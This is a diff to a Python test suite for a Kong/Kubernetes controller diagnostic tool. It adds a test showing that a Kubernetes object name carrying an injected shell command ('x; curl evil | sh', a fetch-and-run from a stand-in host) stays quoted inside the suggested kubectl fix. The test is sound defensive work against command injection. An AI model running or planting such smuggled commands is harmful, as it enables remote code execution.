@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import shlex
 from dataclasses import replace
 from typing import Any
 
@@ -169,6 +170,15 @@ def refusal(kind: str = "KongPlugin") -> KongWarning:
 )
 def test_each_fault_of_kongs_controller_is_named(more: dict[str, Any], snapshot: dict[str, Any], name: str) -> None:
     assert names(check("04", make_case(snapshot_of(**snapshot), **more))) == [name]
+
+
+def test_what_an_event_says_it_is_about_is_no_command_of_its_own() -> None:
+    hostile = replace(refusal(), about=ObjectKey("KongPlugin", "shop", "x; curl evil | sh"))
+
+    outcome = check("04", make_case(snapshot_of(refusals=(hostile,))))
+
+    words = ["kubectl", "--namespace", "shop", "events", "--for=kongplugin/x; curl evil | sh"]
+    assert shlex.split(outcome.diagnoses[0].fix) == words
 
 
 def test_a_controller_whose_pods_may_not_be_listed_is_not_taken_for_silent() -> None:
